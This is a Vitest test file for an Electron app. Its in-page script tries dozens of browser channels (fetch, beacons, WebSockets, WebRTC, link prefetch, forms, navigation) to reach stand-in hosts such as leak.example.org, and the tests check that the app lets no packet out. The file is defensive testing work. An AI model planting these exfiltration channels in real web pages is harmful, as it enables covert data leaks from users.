import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { afterAll, describe, expect, test } from 'vitest';
import { watchNetwork } from './network-watch.ts';
import { PROJECT, tempFolder } from './support.ts';

// Chromium's own services wake up some seconds after the start, and some of them later.
const IDLE_MS = 10_000;
const LONG_IDLE_MS = process.env['DSA_PROOFS'] === 'full' ? 20 * 60_000 : IDLE_MS;

/**
 * Tries, in the page, every way out that a script has. Hosts by name and by number: the first must be looked up, the
 * second need not be. Each attempt is given up after a while, since a blocked one may never answer.
 */
const ATTACK = String.raw`(async () => {
  const HOST = 'leak.example.org';
  const NUMBER = '10.99.0.1';
  const add = (name, properties, attributes = {}) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    Object.assign(element, properties);
    document.body.append(element);
    return element;
  };
  const attempts = {
    fetch: () => fetch('https://' + HOST + '/fetch'),
    'fetch number': () => fetch('http://' + NUMBER + '/fetch'),
    'fetch without answer': () => fetch('http://' + NUMBER + '/blind', { mode: 'no-cors', method: 'POST', body: 'x' }),
    'old request': () => {
      const request = new XMLHttpRequest();
      request.open('GET', 'http://' + NUMBER + '/xhr');
      request.send();
    },
    beacon: () => navigator.sendBeacon('https://' + HOST + '/beacon', 'x'),
    socket: () => new WebSocket('ws://' + NUMBER + '/socket'),
    'secure socket': () => new WebSocket('wss://' + HOST + '/socket'),
    events: () => new EventSource('http://' + NUMBER + '/events'),
    transport: () => new WebTransport('https://' + NUMBER + ':4433').ready,
    image: () => (new Image().src = 'http://' + NUMBER + '/image.png'),
    'image by name': () => (new Image().src = 'https://' + HOST + '/image.png'),
    script: () => add('script', {}, { src: 'https://' + HOST + '/a.js' }),
    frame: () => add('iframe', {}, { src: 'http://' + NUMBER + '/frame' }),
    media: () => add('video', { autoplay: true }, { src: 'http://' + NUMBER + '/film.mp4' }),
    object: () => add('object', {}, { data: 'http://' + NUMBER + '/object' }),
    embed: () => add('embed', {}, { src: 'http://' + NUMBER + '/embed' }),
    ...Object.fromEntries(
      ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'manifest', 'icon'].map(
        (rel) => ['link ' + rel, () => {
          add('link', {}, { rel, as: 'script', href: 'https://' + rel + '.' + HOST + '/a' });
          add('link', {}, { rel, as: 'script', href: 'http://' + NUMBER + '/' + rel });
        }],
      ),
    ),
    style: () => {
      add('style', { textContent: '@import url(http://' + NUMBER + '/a.css); body { background: url(http://' + NUMBER + '/b.png) }' });
      document.body.style.setProperty('background-image', 'url(http://' + NUMBER + '/c.png)');
    },
    font: () => new FontFace('leak', 'url(http://' + NUMBER + '/font)').load(),
    worker: () => new Worker(URL.createObjectURL(new Blob(['fetch("http://10.99.0.1/worker")']))),
    'service worker': () => navigator.serviceWorker.register('https://' + HOST + '/worker.js'),
    'peer connection': async () => {
      const peer = new RTCPeerConnection({
        iceServers: [{ urls: 'stun:' + NUMBER + ':3478' }, { urls: 'stun:' + HOST + ':3478' }],
      });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((done) => setTimeout(done, 1500));
    },
    spelling: () => add('textarea', { value: 'agrement for shareing data', spellcheck: true }).focus(),
    window: () => window.open('http://' + NUMBER + '/window'),
    ping: () => add('a', {}, { href: '#ping', ping: 'http://' + NUMBER + '/ping' }).click(),
    form: () => add('form', {}, { method: 'post', action: 'http://' + NUMBER + '/form' }).submit(),
    navigation: () => (location.href = 'http://' + NUMBER + '/navigation'),
  };
  for (const attempt of Object.values(attempts)) {
    const patience = new Promise((done) => setTimeout(done, 400));
    await Promise.race([Promise.resolve().then(attempt).catch(() => undefined), patience]);
  }
  return Object.keys(attempts).length;
})()`;

const told = (packets: number, calls: readonly string[]): string =>
  `${packets} packets, ${calls.length} network calls`;

describe('silence', () => {
  const folder = tempFolder();
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  test('the watch hears an ordinary Electron window that does the same', async ({ task }) => {
    const stock = join(folder, 'stock');
    mkdirSync(stock);
    writeFileSync(
      join(stock, 'package.json'),
      '{ "name": "stock", "version": "1.0.0", "type": "module", "main": "main.js" }',
    );
    writeFileSync(join(stock, 'page.html'), '<!doctype html><title>Stock</title><body></body>');
    writeFileSync(
      join(stock, 'main.js'),
      `import { join } from 'node:path';
       import { app, BrowserWindow } from 'electron';
       app.setPath('userData', ${JSON.stringify(join(folder, 'stock-data'))});
       app.whenReady().then(() => new BrowserWindow().loadFile(join(import.meta.dirname, 'page.html')));`,
    );
    const { packets, calls } = await watchNetwork([stock], async (evaluate) => {
      // The last attempts leave the page, and with it the evaluation.
      await evaluate(`void ${ATTACK}`);
      await wait(IDLE_MS);
    });
    task.meta.figure = told(packets, calls);
    expect(packets).toBeGreaterThan(10);
    expect(calls.filter((line) => line.includes('10.99.0.1')).length).toBeGreaterThan(3);
  });

  test(
    'the app sends no packet and uses no IP socket, at its start, at work and idle',
    { timeout: LONG_IDLE_MS + 120_000 },
    async ({ task }) => {
      const { packets, calls } = await watchNetwork(
        [PROJECT, `--data-dir=${join(folder, 'work')}`],
        async (evaluate) => {
          expect(await evaluate(`window.dsa.invoke('register.open-sample', {})`)).toMatchObject({ ok: true });
          await wait(LONG_IDLE_MS);
        },
      );
      task.meta.figure = told(packets, calls);
      expect(calls).toEqual([]);
      expect(packets).toBe(0);
    },
  );

  test('the app sends no packet and connects to nothing when its page tries every way out', async ({
    task,
  }) => {
    const { packets, calls } = await watchNetwork(
      [PROJECT, `--data-dir=${join(folder, 'attack')}`],
      async (evaluate) => {
        expect(await evaluate(ATTACK)).toBeGreaterThan(25);
        await wait(IDLE_MS);
        expect(await evaluate('location.href')).toMatch(/^app:\/\/dsa\//);
      },
    );
    // A peer connection takes local UDP ports before it finds that it may send nothing over them.
    const others = calls.filter((line) => !/ bind\(\d+<UDP/.test(line));
    task.meta.figure = told(packets, others);
    expect(others).toEqual([]);
    expect(packets).toBe(0);
  });
});
